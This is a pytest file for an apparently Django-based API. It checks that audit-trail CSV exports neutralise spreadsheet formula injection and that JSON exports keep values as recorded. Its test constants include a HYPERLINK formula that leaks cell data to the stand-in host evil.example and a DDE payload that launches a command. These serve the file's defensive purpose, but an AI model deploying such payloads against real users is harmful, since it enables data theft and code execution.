"""The CSV export of the audit trail neutralises spreadsheet formulas; the JSON answers keep values as recorded."""

from __future__ import annotations

import csv
import io
import json

import pytest

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open me")'
LOGIN = "@SUM(1+1)*cmd|' /C calc'!A0"


def _export(client, place, path: str, kind: str) -> str:  # type: ignore[no-untyped-def]
    response = client.get(f"{path}?format={kind}", **place.auth("root"))
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed_json_is_untouched(client, place):
    # Values an attacker controls that the trail records as they came: a User-Agent on a write, an id in
    # the path of a refused write, and the user name of a failed login.
    created = client.post(
        "/api/v1/tenants/acme/workspaces/",
        {"name": "Ops", "slug": "ops"},
        content_type="application/json",
        HTTP_USER_AGENT=FORMULA,
        **place.auth("acme"),
    )
    assert created.status_code == 201
    refused = client.delete(
        "/api/v1/tenants/acme/workspaces/etl/clusters/-1+2/", HTTP_USER_AGENT="\tx", **place.auth("acme")
    )
    assert refused.status_code == 404
    login = client.post("/api/v1/auth/token/", {"username": LOGIN, "password": "x"}, content_type="application/json")
    assert login.status_code == 401

    rows = list(csv.DictReader(io.StringIO(_export(client, place, "/api/v1/audit/export/", "csv"))))
    created_row = next(r for r in rows if r["action"] == "workspace.create")
    assert created_row["user_agent"] == "'" + FORMULA
    refused_row = next(r for r in rows if r["action"] == "cluster.destroy")
    assert (refused_row["resource_id"], refused_row["user_agent"]) == ("'-1+2", "'\tx")
    assert next(r for r in rows if r["action"] == "auth.login")["actor_id"] == "'" + LOGIN
    # No cell of the export starts with a character that makes it a formula.
    assert not [value for row in rows for value in row.values() if value[:1] in ("=", "+", "-", "@", "\t", "\r")]

    # The tenant's own export is neutralised the same way.
    tenant_rows = list(csv.DictReader(io.StringIO(_export(client, place, "/api/v1/tenants/acme/audit/export/", "csv"))))
    assert {r["user_agent"] for r in tenant_rows if r["action"] == "workspace.create"} == {"'" + FORMULA}

    # JSON Lines and the JSON list answer the values exactly as recorded.
    lines = [json.loads(line) for line in _export(client, place, "/api/v1/audit/export/", "jsonl").splitlines()]
    assert next(r for r in lines if r["action"] == "workspace.create")["user_agent"] == FORMULA
    assert next(r for r in lines if r["action"] == "auth.login")["actor_id"] == LOGIN
    listed = client.get("/api/v1/audit/?action=cluster.destroy", **place.auth("root")).json()["results"]
    assert [(r["resource_id"], r["user_agent"]) for r in listed] == [("-1+2", "\tx")]
